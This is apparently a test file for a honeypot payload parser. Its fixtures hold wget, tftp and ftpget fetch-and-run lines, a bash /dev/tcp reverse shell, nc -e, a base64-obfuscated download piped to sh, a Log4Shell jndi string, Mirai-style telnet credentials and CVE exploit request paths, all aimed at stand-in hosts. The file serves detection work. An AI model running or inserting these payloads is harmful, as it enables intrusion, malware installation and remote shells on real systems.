"""What payloads would fetch, run and log in with, as their targets would read them."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teiten.payloads import drawn, known

HOST = "192.0.2.9"
URLS = {
    "a query's plus signs": (b"GET /shell?cd+/tmp;wget+http://192.0.2.9/jaws;sh+jaws HTTP/1.1\r\n\r\n", ["http://192.0.2.9/jaws"]),
    "options behind it": (b"GET /a?cmd=wget+http://192.0.2.9:8088/Mozi.m+-O+/tmp/x HTTP/1.0\r\n\r\n", ["http://192.0.2.9:8088/Mozi.m"]),
    "percent signs": (b"GET /a?cmd=wget%20http%3A%2F%2F192.0.2.9%2Fb HTTP/1.0\r\n\r\n", ["http://192.0.2.9/b"]),
    "IFS": (b"GET /a;wget${IFS}http://192.0.2.9/c${IFS}-O- HTTP/1.0\r\n\r\n", ["http://192.0.2.9/c"]),
    "SOAP's entities": (b"<N>&#96;wget http://192.0.2.9/d&amp;&amp;sh d&#96;</N>", ["http://192.0.2.9/d"]),
    "no scheme": (b"cd /tmp; wget -q 192.0.2.9/e; curl -O evil.example:81/f", ["http://192.0.2.9/e", "http://evil.example:81/f"]),
    "busybox of a router": (b"$(/bin/busybox wget -g 192.0.2.9 -l /tmp/x -r /mips; sh x)", ["http://192.0.2.9/mips"]),
    "tftp both ways": (b"tftp -g -r a.arm 192.0.2.9; tftp 192.0.2.8 -c get b.sh", ["tftp://192.0.2.9/a.arm", "tftp://192.0.2.8/b.sh"]),
    "ftpget": (b"ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 f1.sh f1.sh", ["ftp://192.0.2.9/f1.sh"]),
    "a shell sent back": (b"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1; nc -e 192.0.2.7 99", ["tcp://192.0.2.9:4444", "tcp://192.0.2.7:99"]),
    "base64": (b'sh -c "echo %s | base64 -d | sh"' % base64.b64encode(b"wget http://192.0.2.9/g -O-|sh"), ["http://192.0.2.9/g"]),
    "echo's escapes": (b"echo -ne '\\x77\\x67\\x65\\x74\\x20http://192.0.2.9/h'", ["http://192.0.2.9/h"]),
    "jndi": (b"GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.9:1389/a}\r\n\r\n", ["ldap://192.0.2.9:1389/a"]),
    "nothing": (b"GET /index.html HTTP/1.1\r\nHost: 192.0.2.9\r\n\r\n", []),
}  # fmt: skip


@pytest.mark.parametrize("case", URLS)
def test_downloads(case: str) -> None:
    data, wanted = URLS[case]
    assert [one.url for one in drawn.of([data]).downloads] == wanted


def test_commands_in_their_order() -> None:
    assert drawn.of([b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/j;sh+/tmp/j HTTP/1.1\r\n\r\n"]).commands[:3] == (
        "rm -rf *", "wget http://192.0.2.9/j", "sh /tmp/j HTTP/1.1",
    )  # fmt: skip
    assert drawn.of([b"POST /form HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nan id of a cat\r\n"]).commands == ()


CREDENTIALS = {
    "basic": (b"GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YTpi\r\n\r\n", [("admin", "a:b")]),
    "form": (b"POST /login HTTP/1.1\r\n\r\nusername=admin&password=1234%21", [("admin", "1234!")]),
    "json": (b'POST /login HTTP/1.1\r\n\r\n{"username":"admin","password":"pw"}', [("admin", "pw")]),
    "redis": (b"*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n", [("", "foo")]),
    "ftp": (b"USER anonymous\r\nPASS x@y\r\n", [("anonymous", "x@y")]),
    "digest": (b'REGISTER sip:a SIP/2.0\r\nAuthorization: Digest realm="x", username="100"\r\n\r\n', [("100", "")]),
    "not one": (b"GET / HTTP/1.1\r\nAuthorization: Basic ???\r\n\r\n", []),
}


@pytest.mark.parametrize("case", CREDENTIALS)
def test_credentials(case: str) -> None:
    data, wanted = CREDENTIALS[case]
    assert list(drawn.of([data]).credentials) == wanted


def test_telnet_names_and_passwords_by_turns() -> None:
    said = [
        b"\xff\xfc\x01\xff\xfa\x18\0xterm\xff\xf0root\r\n",
        b"xc3511\r\0",
        b"admin\n",
        b"\n",
        b"enable\r\n",
        b"/bin/busybox MIRAI\r\n",
    ]
    assert drawn.of(said, "telnet").credentials == (("root", "xc3511"), ("admin", ""))


def test_there_may_be_more() -> None:
    many = b" ".join(b"http://192.0.2.9/%d" % n for n in range(100))
    found = drawn.of([many])
    assert len(found.downloads) == 64 and found.cut
    assert not drawn.of([b"http://192.0.2.9/1"]).cut


@given(st.binary(max_size=2000))
def test_nothing_raises(data: bytes) -> None:
    drawn.of([data], "telnet")
    known.names(data)


@pytest.mark.parametrize(
    "text",
    [b"wget " * 13_000, b"tftp -r " * 8_000, b"ftpget -a b " * 5_000, b"user=" * 13_000, b"${IFS}" * 10_000, b"%25" * 20_000,
     b"&amp;" * 13_000, b"\\x41" * 16_000, b"A" * 65_536 + b"base64", b"a." * 32_000, b";id" * 20_000],
)  # fmt: skip
def test_no_text_makes_it_slow(text: bytes) -> None:
    """(the watchdog of all tests would end it)"""
    drawn.of([text])


def test_exploits_are_known_by_their_words() -> None:
    assert [one.id for one in known.names(b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1")] == ["CVE-2017-17215"]
    assert [one.id for one in known.names(b"GET /cgi-bin/.%2e/.%2e/bin/sh")] == ["CVE-2021-41773"]
    assert "CVE-2021-44228" in [one.id for one in known.names(b"GET /?x=%24%7Bjndi:ldap://a/b%7D")]
    assert known.names(b"GET / HTTP/1.1\r\n\r\n") == ()
    ids = [one.id for one in known.exploits()]
    assert len(ids) == len(set(ids)) and all(one.source.startswith("https://") for one in known.exploits())
